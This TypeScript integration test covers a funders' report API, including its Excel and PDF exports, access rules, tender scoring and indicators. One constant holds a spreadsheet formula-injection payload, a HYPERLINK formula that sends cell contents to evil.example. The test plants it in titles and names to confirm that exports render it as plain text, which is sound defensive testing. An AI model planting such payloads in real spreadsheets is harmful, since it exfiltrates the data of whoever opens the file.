/**
 * The funders' report (GET /api/v1/programmes/:id/report, .xlsx, .pdf) against the real API,
 * Temporal, PostgreSQL: DEFI with its evaluation tender run to the award, and a DAQ-like
 * programme carrying the seed's indicators (60 company meetings, 57 shared offers, 34 young
 * people, 69 % placement). Who may read it, what it says, and the workbook parsed back.
 */
import ExcelJS from 'exceljs';
import { toParisDate } from '../../domain/calendar';
import type { TemplateInput } from '../../domain/template-schema';
import { apiClient, createOrganisation, createUser, publishTemplates, startHarness, waitFor, type Harness, type TestUser } from '../support/harness';
import { waitForReadModelInSync } from '../support/read-model';
import { runTenderToNotification } from '../support/tender-flow';

const FRENCH_MONTHS = ['janvier', 'février', 'mars', 'avril', 'mai', 'juin', 'juillet', 'août', 'septembre', 'octobre', 'novembre', 'décembre'];
/** "2026-12-14" → "14 décembre 2026" ("1er" on the first), written independently of the code under test. */
function frenchDay(isoDate: string): string {
  const [y, m, d] = isoDate.split('-').map(Number) as [number, number, number];
  return `${d === 1 ? '1er' : d} ${FRENCH_MONTHS[m - 1]} ${y}`;
}

const RUN = Date.now().toString(36);
const INJECTED = `=HYPERLINK("http://evil.example/?x="&A1,"clic ${RUN}")`;

function daqTemplate(key: string): TemplateInput {
  return {
    key,
    version: 1,
    labels: { roles: { of: { fr: 'Organisme de formation' } } },
    name: { fr: 'DAQ 2.0 — promotion auprès des entreprises', en: 'DAQ 2.0 — promotion to companies' },
    indicators: [
      { key: 'company-meetings', name: { fr: 'Rendez-vous en entreprise', en: 'Company meetings' }, target: 60, unit: 'rendez-vous' },
      { key: 'shared-offers', name: { fr: 'Offres partagées', en: 'Shared offers' }, target: 57, unit: 'offres' },
      { key: 'young-people', name: { fr: 'Jeunes présents en session', en: 'Young people attending' }, target: 34, unit: 'jeunes' },
      { key: 'immersion-rate', name: { fr: 'Candidats ayant réalisé une immersion en entreprise', en: 'Candidates with a company immersion' }, target: 69, unit: '%' },
    ],
    phases: [
      {
        key: 'promotion',
        name: { fr: 'Promotion', en: 'Promotion' },
        steps: [
          { key: 'shared-file', name: { fr: 'Fichier partagé de suivi des offres', en: 'Shared offers file' }, assignee: { kind: 'slot', slot: 'of' }, due: { from: 'programmeStart', offset: { amount: 10, unit: 'calendarDays' } }, deliverables: [{ kind: 'file', label: { fr: 'Fichier', en: 'File' }, acceptance: true }] },
          { key: 'copil', name: { fr: 'Comité de pilotage', en: 'Steering committee' }, assignee: { kind: 'coordinator' }, milestone: true, dependsOn: ['shared-file'], due: { from: 'programmeStart', offset: { amount: 20, unit: 'calendarDays' } } },
        ],
      },
    ],
  };
}

describe("funders' report", () => {
  let h: Harness;
  let api: ReturnType<typeof apiClient>;
  let coordinator: TestUser;
  let outsider: TestUser;
  let manager: TestUser;
  let admin: TestUser;
  let partner: TestUser;
  const daqKey = `daq-${Date.now()}`;

  beforeAll(async () => {
    h = await startHarness({ notifier: false });
    api = apiClient(h.apiUrl);
    await publishTemplates(h.prisma, [daqTemplate(daqKey)]);
    [coordinator, outsider, manager, admin] = await Promise.all([createUser(h, 'coordinator'), createUser(h, 'coordinator'), createUser(h, 'manager'), createUser(h, 'admin')]);
  });
  afterAll(async () => {
    await h?.stop();
  });

  const ok = async (p: Promise<{ status: number; body: any }>, status = 200) => {
    const res = await p;
    expect({ status: res.status, detail: res.body?.detail }).toEqual({ status, detail: undefined });
    return res.body;
  };
  const download = async (url: string, token: string) => {
    const res = await fetch(`${h.apiUrl}${url}`, { headers: { Authorization: `Bearer ${token}` } });
    return { status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), body: Buffer.from(await res.arrayBuffer()) };
  };

  it('DEFI: partners per phase, the evaluation tender’s compliance record, late steps; for the team, managers and admins only', async () => {
    const defi = await ok(api.post('/api/v1/programmes', { templateKey: 'defi', title: 'DEFI — Destination Formation Innovante', startDate: '2021-01-04' }, coordinator.token), 201);
    const afpa = await createOrganisation(h, `AFPA ${RUN}`);
    partner = await createUser(h, 'partner', afpa);
    await ok(api.post(`/api/v1/programmes/${defi.id}/partners`, { organisationId: afpa, phaseKey: 'test' }, coordinator.token), 201);
    await ok(api.post(`/api/v1/programmes/${defi.id}/indicators/partners-contacted`, { value: 40 }, coordinator.token));
    await ok(api.post(`/api/v1/programmes/${defi.id}/indicators/partners-met`, { value: 14 }, coordinator.token));
    await ok(api.post(`/api/v1/programmes/${defi.id}/steps/partner-mobilisation/complete`, { note: '40 structures contactées, 14 rencontrées' }, coordinator.token));

    // The evaluation tender: three providers consulted, two answer by the deadline, one is late and refused.
    const tenderId = `${defi.id}.tender-evaluation`;
    const names: [string, string, string] = [`Évaluation Conseil ${RUN}`, `Didaction ${RUN}`, `Cabinet Tardif ${RUN}`];
    const { providers, deadline, partners } = await runTenderToNotification(h, coordinator, tenderId, names, [{ price: 12, technical: 17 }, { price: 16, technical: 11 }], {
      // Sealed until the award: a manager reads the tender's progress, no bidder; the team reads everything.
      async beforeDeadline() {
        const sealedForManager = await ok(api.get(`/api/v1/programmes/${defi.id}/report`, manager.token));
        const sealedTender = sealedForManager.tenders.find((t: { programmeId: string }) => t.programmeId === tenderId);
        expect([sealedTender.sealed, sealedTender.providers, sealedTender.answers, sealedTender.scores, sealedTender.winner]).toEqual([true, null, null, null, null]);
        for (const n of names) expect(JSON.stringify(sealedForManager)).not.toContain(n);
        const sealedForTeam = await ok(api.get(`/api/v1/programmes/${defi.id}/report`, coordinator.token));
        expect(sealedForTeam.tenders.find((t: { programmeId: string }) => t.programmeId === tenderId).providers).toEqual(names);
      },
    });
    await waitFor('the award to reach DEFI', async () => (await waitForReadModelInSync(h, defi.id)).slots.evaluator === providers[0]);
    const pa = partners[0]!;

    // Who may read it: the team, managers, admins; not a coordinator outside the team, never a partner.
    expect((await api.get(`/api/v1/programmes/${defi.id}/report`, outsider.token)).body.code).toBe('not_programme_member');
    for (const p of [partner, pa]) {
      expect((await api.get(`/api/v1/programmes/${defi.id}/report`, p.token)).status).toBe(403);
      expect((await download(`/api/v1/programmes/${defi.id}/report.xlsx`, p.token)).status).toBe(403);
    }
    expect((await api.get('/api/v1/programmes/prg_no-such-programme/report', manager.token)).status).toBe(404);
    expect((await api.get(`/api/v1/programmes/${defi.id}/report?from=2021-12-31&to=2021-01-01`, manager.token)).status).toBe(400);

    const today = toParisDate(new Date());
    for (const reader of [coordinator, manager, admin]) {
      const report = await ok(api.get(`/api/v1/programmes/${defi.id}/report`, reader.token));
      expect(report.period).toEqual({ from: '2021-01-04', to: today });
      expect(report.agencyName).toBe("Creativ'");
      expect(report.programme).toMatchObject({ title: 'DEFI — Destination Formation Innovante', statusLabel: 'En cours', startDate: '2021-01-04' });
      const tender = report.tenders.find((t: { programmeId: string }) => t.programmeId === tenderId);
      expect(tender).toMatchObject({
        sealed: false,
        minProviders: 3,
        providers: names,
        criteria: [
          { key: 'price', label: 'Prix', weight: 40 },
          { key: 'technical', label: 'Valeur technique', weight: 60 },
        ],
        scores: [
          { organisation: names[0], rank: 1, byCriterion: { price: 12, technical: 17 }, total: 15 },
          { organisation: names[1], rank: 2, byCriterion: { price: 16, technical: 11 }, total: 13 },
        ],
        winner: names[0],
        compliance: ['3 prestataires consultés (minimum 3)', 'toutes les réponses reçues dans les délais', 'chaque offre notée sur chaque critère', 'titulaire classé premier', 'candidats notifiés'],
      });
      expect(tender.answers.map((a: { organisation: string; onTime: boolean }) => [a.organisation, a.onTime])).toEqual([
        [names[0], true],
        [names[1], true],
      ]);
      expect([toParisDate(new Date(tender.awardedAt)), toParisDate(new Date(tender.notifiedAt))]).toEqual([today, today]);
      // The two other tenders have not begun: sealed to the manager, open to the team (nobody consulted yet).
      expect(report.tenders).toHaveLength(3);
      expect(report.enrolments.find((e: { phase: string }) => e.phase === 'Phase Test')).toMatchObject({ capacity: { min: 1, max: 1 }, organisations: [{ name: `AFPA ${RUN}`, slot: null }] });
      expect(report.indicators.map((i: { key: string; target: number; valueAtEnd: number; rate: number }) => [i.key, i.target, i.valueAtEnd, i.rate])).toEqual([
        ['partners-contacted', 40, 40, 100],
        ['partners-met', 14, 14, 100],
      ]);
      expect(report.actions.map((a: { step: string }) => a.step)).toContain('Mobilisation des partenaires');
      expect(report.milestones).toContainEqual({ name: 'Marché attribué — Consultation évaluation continue', dueAt: null, reachedAt: tender.awardedAt, state: 'reached', stateLabel: 'Atteint' });
      // Started on 4 January 2021: partner mobilisation was due 180 days later and done today.
      const mobilisation = report.lateSteps.find((s: { step: string }) => s.step === 'Mobilisation des partenaires');
      expect(mobilisation).toMatchObject({ state: 'done', stateLabel: 'Réalisée en retard' });
      expect(mobilisation.daysLate).toBe(Math.round((Date.parse(`${today}T00:00:00Z`) - Date.parse(`${toParisDate(new Date(mobilisation.dueAt))}T00:00:00Z`)) / 86_400_000));
    }

    // A period before anything happened: nothing done, nothing late yet, the indicators at zero.
    const early = await ok(api.get(`/api/v1/programmes/${defi.id}/report?from=2021-01-04&to=2021-01-31`, coordinator.token));
    expect([early.actions, early.deliverables, early.lateSteps]).toEqual([[], [], []]);
    expect(early.indicators.map((i: { valueAtEnd: number }) => i.valueAtEnd)).toEqual([0, 0]);

    // The workbook: French sheets and headers, Paris dates in words, the tender's record.
    const xlsx = await download(`/api/v1/programmes/${defi.id}/report.xlsx?from=2021-01-04&to=${today}`, manager.token);
    expect(xlsx.status).toBe(200);
    expect(xlsx.type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(xlsx.disposition).toBe(`attachment; filename="bilan-defi-destination-formation-innovante-2021-01-04-${today}.xlsx"`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Synthèse', 'Actions réalisées', 'Jalons', 'Livrables acceptés', 'Indicateurs', 'Indicateurs par mois', 'Partenaires inscrits par phase', 'Consultations et marchés', 'Notes des offres', 'Étapes en retard']);
    const rows = (name: string) => (workbook.getWorksheet(name)!.getSheetValues() as unknown[][]).filter(Boolean).map((r) => r.slice(1));
    expect(rows('Synthèse').slice(0, 2)).toEqual([["Creativ'"], ['Bilan pour les financeurs']]);
    expect(rows('Synthèse')).toContainEqual(['Période', `du 4 janvier 2021 au ${frenchDay(today)}`]);
    expect(rows('Synthèse')).toContainEqual(['Date de démarrage', '4 janvier 2021']);
    const tenders = rows('Consultations et marchés');
    expect(tenders[0]).toEqual(['Consultation', 'Statut', 'Cahier des charges', 'Nombre consultés', 'Prestataires consultés', 'Date limite des réponses', 'Réponses reçues', 'Réponses dans les délais', 'Critères (pondération)', 'Titulaire', 'Attribué le', 'Notifié le', 'Contrat signé le', 'Conformité']);
    const evaluation = tenders.find((r) => r[0] === 'Consultation évaluation continue')!;
    expect(evaluation.slice(3, 13)).toEqual([3, names.join(', '), frenchDay(toParisDate(new Date(deadline))), 2, 2, 'Prix (40 %), Valeur technique (60 %)', names[0], frenchDay(today), frenchDay(today), undefined]);
    expect(rows('Notes des offres')).toEqual([
      ['Consultation', 'Candidat', 'Reçue le', 'Dans les délais', 'Prix', 'Valeur technique', 'Note pondérée /20', 'Rang'],
      ['Consultation évaluation continue', names[0], frenchDay(today), 'oui', 12, 17, 15, 1],
      ['Consultation évaluation continue', names[1], frenchDay(today), 'oui', 16, 11, 13, 2],
    ]);
    expect(rows('Partenaires inscrits par phase')).toContainEqual(['Phase Test', '1 / 1', `AFPA ${RUN}`, frenchDay(today)]);
    expect(rows('Indicateurs')).toEqual([
      ['Indicateur', 'Unité', 'Objectif', 'Réalisé en fin de période', 'Évolution sur la période', 'Taux d’atteinte (%)'],
      ['Réseaux et organismes de formation contactés', undefined, 40, 40, 40, 100],
      ['Réseaux et organismes de formation rencontrés', undefined, 14, 14, 14, 100],
    ]);

    // The PDF, printed by Chromium.
    const pdf = await download(`/api/v1/programmes/${defi.id}/report.pdf`, coordinator.token);
    expect([pdf.status, pdf.type, pdf.body.subarray(0, 5).toString('latin1')]).toEqual([200, 'application/pdf', '%PDF-']);
    expect(pdf.body.length).toBeGreaterThan(10_000);
  }, 120_000);

  it('DAQ: the seed’s indicators against their targets, by month; titles stay text in the workbook', async () => {
    const of = await createOrganisation(h, INJECTED);
    const daq = await ok(api.post('/api/v1/programmes', { templateKey: daqKey, title: `${INJECTED} DAQ Dijon`, startDate: toParisDate(new Date()), params: { slots: { of } } }, coordinator.token), 201);
    for (const [key, value] of [['company-meetings', 62], ['shared-offers', 57], ['young-people', 34], ['immersion-rate', 69]] as const) {
      await ok(api.post(`/api/v1/programmes/${daq.id}/indicators/${key}`, { value }, coordinator.token));
    }
    await ok(api.post(`/api/v1/programmes/${daq.id}/indicators/company-meetings`, { increment: -2 }, coordinator.token));
    const ofUser = await createUser(h, 'partner', of);
    const added = await ok(api.post(`/api/v1/programmes/${daq.id}/steps/shared-file/deliverables`, { title: `${INJECTED} fichier`, url: 'https://example.org/suivi.xlsx' }, ofUser.token), 201);
    await ok(api.post(`/api/v1/programmes/${daq.id}/steps/shared-file/deliverables/${added.id}/review`, { decision: 'accepted' }, coordinator.token));

    const today = toParisDate(new Date());
    const report = await ok(api.get(`/api/v1/programmes/${daq.id}/report`, manager.token));
    expect(report.indicators.map((i: { name: string; unit: string; target: number; valueAtEnd: number; change: number; rate: number }) => [i.name, i.unit, i.target, i.valueAtEnd, i.change, i.rate])).toEqual([
      ['Rendez-vous en entreprise', 'rendez-vous', 60, 60, 60, 100],
      ['Offres partagées', 'offres', 57, 57, 57, 100],
      ['Jeunes présents en session', 'jeunes', 34, 34, 34, 100],
      ['Candidats ayant réalisé une immersion en entreprise', '%', 69, 69, 69, 100],
    ]);
    expect(report.indicators[0].byMonth).toEqual([{ month: today.slice(0, 7), change: 60, valueAtEnd: 60 }]);
    expect(report.indicators[0].byQuarter).toEqual([{ quarter: `T${Math.ceil(Number(today.slice(5, 7)) / 3)} ${today.slice(0, 4)}`, change: 60, valueAtEnd: 60 }]);
    expect(report.deliverables).toEqual([expect.objectContaining({ step: 'Fichier partagé de suivi des offres', title: `${INJECTED} fichier`, organisation: INJECTED })]);

    const xlsx = await download(`/api/v1/programmes/${daq.id}/report.xlsx`, manager.token);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    // No cell anywhere is a formula; the injected texts are plain strings.
    let formulas = 0;
    const texts: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula) formulas += 1;
          if (typeof cell.value === 'string' && cell.value.includes('HYPERLINK')) texts.push(cell.value);
        }),
      ),
    );
    expect(formulas).toBe(0);
    expect(texts).toEqual(expect.arrayContaining([`${INJECTED} DAQ Dijon`, `${INJECTED} fichier`, INJECTED]));
    const deliverables = (workbook.getWorksheet('Livrables acceptés')!.getSheetValues() as unknown[][]).filter(Boolean).map((r) => r.slice(1));
    expect(deliverables[1]).toEqual(['Fichier partagé de suivi des offres', `${INJECTED} fichier`, INJECTED, frenchDay(today)]);
    const byMonth = (workbook.getWorksheet('Indicateurs par mois')!.getSheetValues() as unknown[][]).filter(Boolean).map((r) => r.slice(1));
    expect(byMonth[0]).toEqual(['Indicateur', `${FRENCH_MONTHS[Number(today.slice(5, 7)) - 1]} ${today.slice(0, 4)}`]);
    expect(byMonth.slice(1)).toEqual([
      ['Rendez-vous en entreprise', 60],
      ['Offres partagées', 57],
      ['Jeunes présents en session', 34],
      ['Candidats ayant réalisé une immersion en entreprise', 69],
    ]);
  }, 60_000);
});
